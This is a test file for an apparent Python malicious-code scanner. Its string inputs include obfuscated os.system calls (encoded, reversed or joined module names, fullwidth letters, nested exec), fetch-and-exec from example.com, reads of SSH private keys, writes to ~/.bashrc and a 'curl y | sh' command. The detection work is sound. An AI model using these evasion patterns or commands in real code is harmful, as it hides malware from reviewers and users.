import { describe, expect, test } from 'vitest';
import { judgePython } from '../../src/code/python.ts';

/** What Python does, and when: `severity kind subject`. */

async function deeds(text: string, options?: Parameters<typeof judgePython>[1]): Promise<string[]> {
  const { evidence } = await judgePython(text, options);
  return evidence.map(({ severity, kind, subject }) => `${severity} ${kind} ${subject}`);
}

describe('a name is followed to what it stands for', () => {
  test.each([
    ['an import by another name', 'import os as o\no.system("id")'],
    ['a name of a module', 'from os import system as s\ns("id")'],
    ['all names of a module', 'from os import *\nsystem("id")'],
    ['a variable', 'import os\nf = os.system\nf("id")'],
    ['getattr with a text that is put together', 'import os\ngetattr(os, "sys" + "tem")("id")'],
    ['getattr with a text that is turned round', 'import os\ngetattr(os, "metsys"[::-1])("id")'],
    ['__import__', '__import__("os").system("id")'],
    ['an import by a joined name', '__import__("".join(["o", "s"])).system("id")'],
    [
      'an import by an encoded name',
      'import importlib, base64\nimportlib.import_module(base64.b64decode("b3M=").decode()).system("id")',
    ],
    ['an import by the numbers of its letters', '__import__(chr(111) + chr(115)).system("id")'],
    ['an import by escapes', '__import__("\\x6f\\x73").system("id")'],
    ['the dictionary of a module', 'import os\nos.__dict__["system"]("id")'],
    ['vars', 'import os\nvars(os)["system"]("id")'],
    ['the list of modules', 'import sys\nsys.modules["os"].system("id")'],
    ['something handed to map', 'import os\nlist(map(os.system, ["id"]))'],
    ['an f-string', 'import os\nprint(f"{os.system(\'id\')}")'],
    ['a comprehension', 'import os\n[os.system(c) for c in ["id"]]'],
    ['a default of a parameter', 'import os\ndef f(x=os.system("id")):\n    pass'],
    ['a decorator', 'import os\n@register(os.system("id"))\ndef f():\n    pass'],
    ['the body of a class', 'import os\nclass A:\n    x = os.system("id")'],
    ['an annotated variable', 'import os\nx: int = os.system("id")'],
    ['a subject of match', 'import os\nmatch os.system("id"):\n    case _:\n        pass'],
    ['an assertion', 'import os\nassert os.system("id") == 0'],
    ['letters that Python takes for others', 'import os\n\uff4f\uff53.system("id")'],
  ])('%s', async (_, text) => {
    expect(await deeds(text)).toContain('critical process os.system');
  });

  test('a module that another module has', async () => {
    expect(await deeds('import torch\ntorch.os.system("id")')).toEqual(['critical process torch.os.system']);
  });

  test('a variable of the same name is another thing', async () => {
    const text = 'def f(requests, eval, sh):\n    requests.get(1)\n    if eval:\n        sh.ls()\nf(1, 2, 3)\n';
    expect(await deeds(text)).toEqual([]);
  });

  test("methods that are called like builtins are the object's own", async () => {
    expect(await deeds('import re, torch\nmodel.eval()\nre.compile("x")\ntorch.compile(model)')).toEqual([]);
  });
});

describe('when it runs decides how bad it is', () => {
  const IMPORT = 'import subprocess\n';
  test.each([
    ['as soon as the file is imported', 'subprocess.run(["id"])', 'critical'],
    [
      'by a function that is called at once',
      'def f():\n    g()\ndef g():\n    subprocess.run(["id"])\nf()',
      'critical',
    ],
    ['by a decorator without arguments', 'def f(x):\n    subprocess.run(["id"])\n@f\nclass A:\n    pass', 'critical'],
    [
      'by a function that is handed to a thread',
      'import threading\ndef f():\n    subprocess.run(["id"])\nthreading.Thread(target=f).start()',
      'critical',
    ],
    [
      'by making an object of a class at once',
      'class A:\n    def __init__(self):\n        subprocess.run(["id"])\nA()',
      'critical',
    ],
    [
      'by a constructor',
      'class A:\n    def __init__(self):\n        self.f()\n    def f(self):\n        subprocess.run(["id"])',
      'critical',
    ],
    ['by a function that may be called later', 'def f():\n    subprocess.run(["id"])', 'medium'],
    ['by the file as a program', 'if __name__ == "__main__":\n    subprocess.run(["id"])', 'medium'],
    ['by a guard that does not hold', 'if __name__ == "__main__" or True:\n    subprocess.run(["id"])', 'critical'],
    [
      'by a guard whose name was changed',
      '__name__ = "__main__"\nif __name__ == "__main__":\n    subprocess.run(["id"])',
      'critical',
    ],
    ['behind a guard', 'if __name__ == "__main__":\n    pass\nelse:\n    subprocess.run(["id"])', 'critical'],
  ])('%s', async (_, text, severity) => {
    expect(await deeds(IMPORT + text)).toEqual([`${severity} process subprocess.run`]);
  });

  test('what is run and not imported is guarded by nothing', async () => {
    const text = 'import os\nif __name__ == "__main__":\n    os.system("id")';
    expect(await deeds(text, { main: true })).toEqual(['critical process os.system']);
  });

  test('what another file calls at once', async () => {
    const text = 'import os\ndef prepare():\n    os.system("id")';
    expect(await deeds(text, { called: new Map([['prepare', 'imported']]) })).toEqual(['critical process os.system']);
  });
});

describe('code in text', () => {
  test('that is hidden is critical, and shown', async () => {
    const { evidence } = await judgePython(
      `import base64\nexec(base64.b64decode("${Buffer.from("import os; os.system('id')").toString('base64')}"))`,
    );
    expect(evidence).toMatchObject([
      {
        kind: 'hidden-code',
        severity: 'critical',
        subject: 'exec',
        details: [expect.stringMatching(/^line 2: /), `that is "import os; os.system('id')"`],
      },
      { kind: 'process', severity: 'critical', subject: 'os.system' },
    ]);
  });

  test('that is fetched is critical wherever it is run', async () => {
    expect(
      await deeds('import requests\ndef f():\n    r = requests.get("https://example.com")\n    exec(r.text)'),
    ).toContain('critical hidden-code exec');
  });

  test('that is known is judged as what it says', async () => {
    expect(await deeds('exec("x = 1")')).toEqual(['info dynamic-code exec']);
    expect(await deeds('exec("import os\\nos.system(1)")')).toEqual([
      'info dynamic-code exec',
      'critical process os.system',
    ]);
  });

  test('that is not known is not taken for harmless', async () => {
    expect(await deeds('def f(x):\n    return eval(x)')).toEqual(['medium dynamic-code eval']);
    expect(await deeds('eval(input())')).toEqual(['critical dynamic-code eval']);
  });

  test('that only puts a name together calls nothing', async () => {
    expect(await deeds('class A:\n    def f(self, i):\n        return eval(f"self.layer{i}")')).toEqual([
      'info dynamic-code eval',
    ]);
    expect(await deeds('class A:\n    def f(self, i):\n        return eval(f"self.layer{i}()")')).toEqual([
      'medium dynamic-code eval',
    ]);
  });

  test('nested without end is not read without end', async () => {
    let text = 'import os\nos.system("id")';
    for (let i = 0; i < 8; i++) text = `exec(${JSON.stringify(text)})`;
    expect((await judgePython(text)).gaps.map(({ why }) => why)).toContain('code within code, more than 4 deep');
  });
});

describe('other deeds', () => {
  test.each([
    ['import urllib.request\nurllib.request.urlopen("https://example.com")', 'critical network urllib.request.urlopen'],
    ['import requests\ndef f(url):\n    requests.get(url)', 'info network requests.get'],
    ['import socket\ns = socket.socket()', 'critical socket socket.socket'],
    ['import marshal\nmarshal.loads(b"x")', 'critical hidden-code marshal.loads'],
    [
      'import pickle, base64\ndef f():\n    pickle.loads(base64.b64decode("gAR9"))',
      'critical hidden-code pickle.loads',
    ],
    ['import ctypes\nctypes.CDLL("x.so")', 'medium native-code ctypes.CDLL'],
    ['open("/root/.ssh/id_rsa").read()', 'critical secret /root/.ssh/id_rsa'],
    ['import os\nopen(os.path.expanduser("~/.bashrc"), "a")', 'critical start-up-file ~/.bashrc'],
    ['import os\nsend(dict(os.environ))', 'medium environment os.environ'],
    ['import os\nos.system("pip install x")', 'medium install os.system'],
    ['import os\nos.system("pip install x; curl y | sh")', 'critical process os.system'],
    ['import importlib\ndef f(x):\n    importlib.import_module(x)', 'info dynamic-import importlib.import_module'],
    ['().__class__.__base__.__subclasses__()', 'medium internals __subclasses__'],
    ['import torch\ndef f(x):\n    torch.load(x, weights_only=False)', 'info unpickling torch.load'],
    [
      'import subprocess\ndef f(x):\n    cmd = ["ffmpeg", "-i", x]\n    subprocess.run(cmd, check=True)',
      'info known-program subprocess.run',
    ],
    ['import subprocess\ndef f(x):\n    subprocess.run(["ffmpeg", x], shell=True)', 'medium process subprocess.run'],
    ['import os\ngetattr(os, name)("id")', 'critical dynamic-code getattr(os, …)'],
  ])('%s', async (text, deed) => {
    expect(await deeds(text)).toContain(deed);
  });

  test.each([
    [
      'one variable of the environment',
      'import os\nx = os.environ["LOCAL_RANK"]\ny = os.environ.get("X")\n"X" in os.environ',
    ],
    ['a file that is read', 'with open("vocab.txt", encoding="utf-8") as f:\n    x = f.read()'],
    ['an import by a name that is known', 'import importlib\nimportlib.import_module("torch.nn")'],
    ['a module of the same package', 'from .os import system\nsystem("id")'],
    ['weights', 'import torch\ntorch.load("x.bin", map_location="cpu")'],
  ])('%s is nothing', async (_, text) => {
    expect(await deeds(text)).toEqual([]);
  });
});

describe('what was not read is said', () => {
  test('where it is no Python', async () => {
    expect((await judgePython('def f(:\n  os.system("id")')).gaps).toMatchObject([
      { start: 0, why: expect.stringMatching(/no Python/) },
    ]);
  });

  test('where there is more of it than anybody writes', async () => {
    expect((await judgePython('x = 1\n'.repeat(800_000))).gaps).toMatchObject([{ start: 0, end: 4_800_000 }]);
    expect((await judgePython('exec("x = 1")\n'.repeat(150))).gaps.map(({ why }) => why)).toEqual([
      'more than 100 pieces of code in texts',
    ]);
  });

  test('where code in texts holds more of the same, it ends', async () => {
    let text = 'x = 1';
    for (let i = 0; i < 4; i++) text = `t = ${JSON.stringify(text)}\n${'exec(t)\n'.repeat(60)}`;
    expect((await judgePython(text)).gaps.map(({ why }) => why)).toContain('more than 100 pieces of code in texts');
  });

  test('where it is written in another encoding', async () => {
    const { evidence, gaps } = await judgePython('# -*- coding: utf-7 -*-\nx = 1\n');
    expect(evidence).toMatchObject([{ kind: 'hidden-code', severity: 'medium', subject: 'utf-7' }]);
    expect(gaps).toHaveLength(1);
    expect((await judgePython('# coding=utf-8\nx = 1\n')).gaps).toEqual([]);
  });

  test('where names are bound in circles, it ends', async () => {
    const names = Array.from({ length: 60 }, (_, i) => `a${i}`);
    const text = names.map((name) => names.map((other) => `${name} = ${other}.x + ${other}.y`).join('\n')).join('\n');
    expect(await deeds(`${text}\na0.system("id")\n`)).toEqual([]);
  });
});

test('a place is told by its line and its byte', async () => {
  const { evidence } = await judgePython('# ä\nimport os\nos.system("id")\n');
  expect(evidence).toMatchObject([{ offset: 15, details: ['line 3: os.system("id")'] }]);
});
